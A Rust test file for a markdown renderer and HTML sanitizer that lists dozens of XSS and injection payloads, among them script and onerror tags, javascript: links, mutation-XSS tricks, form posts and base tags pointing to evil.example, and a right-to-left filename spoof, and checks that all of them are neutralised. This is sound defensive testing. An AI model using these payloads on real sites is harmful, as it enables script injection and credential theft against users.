//! Texts that were written to harm: their readers, or the server.

use super::{IDS, allowed, checked};
use crate::render::markdown::to_html;
use crate::render::sanitize;

/// Ways to have something run, loaded or overwritten, that other programs fell for.
pub const SNIPPETS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<b onmouseover=alert(1)>x</b>",
    "<b style=\"position:fixed;inset:0\">x</b>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<a id=login name=login href=x>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "</div></article></main><h1>Another message</h1>",
    "</p></li></ul></blockquote></section>",
    "<!--><script>alert(1)</script>-->",
    "<plaintext>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](http://evil.example/\"onmouseover=\"alert(1))",
    "[x](http://evil.example 'title\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](https://evil.example/x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\ce{\\é}$ $\\pu{\\é}$",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "> [!NOTE] <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\u{202e}gnp.exe",
];

#[test]
fn hostile_snippets_are_text() {
    for snippet in SNIPPETS {
        let html = checked(snippet);
        for place in
            [format!("- {snippet}"), format!("> {snippet}"), format!("**{snippet}**"), format!("a {snippet} b")]
        {
            checked(&place);
        }
        assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
    }
}

#[test]
fn the_sanitizer_alone_stops_them_too() {
    for snippet in SNIPPETS {
        let html = sanitize::clean(snippet, IDS);
        if let Err(problem) = allowed::check(&html, IDS) {
            panic!("{problem}\nof {snippet:?}\nin {html}");
        }
    }
}

#[test]
fn ids_other_than_those_of_the_message_are_dropped() {
    let html = "<li id=\"login\">a</li><li id=\"m-17-fn-1\">b</li><a href=\"#other\">c</a><a href=\"#m-17-fn-1\">d</a>";
    let cleaned = sanitize::clean(html, IDS);
    assert!(!cleaned.contains("login") && !cleaned.contains("other"), "{cleaned}");
    assert!(cleaned.contains("id=\"m-17-fn-1\"") && cleaned.contains("href=\"#m-17-fn-1\""), "{cleaned}");
}

#[test]
fn classes_of_the_page_and_huge_formulas_are_dropped() {
    let html = "<span class=\"hl-keyword message dialog\">a</span><math><mspace width=\"-900em\" height=\"2em\"></mspace></math>";
    assert_eq!(
        sanitize::clean(html, IDS),
        "<span class=\"hl-keyword\">a</span><math><mspace height=\"2em\"></mspace></math>"
    );
}

#[test]
fn what_is_nested_too_deeply_is_shown_as_it_was_typed() {
    for (open, close) in [(">", ""), ("- ", ""), ("[", "](http://a.b)"), ("*a **a ", "a** a*"), ("<b>", "</b>")] {
        let text = format!("{}x{}", open.repeat(5_000), close.repeat(5_000));
        let html = checked(&text);
        assert!(html.contains('x'), "{html}");
    }
    assert!(to_html(&">".repeat(5_000), IDS).starts_with("<div class=\"plain\">"));
}

#[test]
fn a_text_beyond_a_mebibyte_is_shown_as_it_was_typed() {
    let html = to_html(&"**word** <b>\n\n".repeat(90_000), IDS);
    assert!(html.starts_with("<div class=\"plain\">\n<p dir=\"auto\">**word** &lt;b&gt;\n"), "{}", &html[..100]);
    assert!(html.ends_with("&lt;b&gt;</p>\n</div>\n"));
}

#[test]
fn a_table_whose_cells_cost_no_text_is_shown_as_it_was_typed() {
    let text = format!("|{}\n|{}\n{}", "a|".repeat(400), "-|".repeat(400), "|a\n".repeat(1_000));
    assert!(to_html(&text, IDS).starts_with("<div class=\"plain\">"));
}
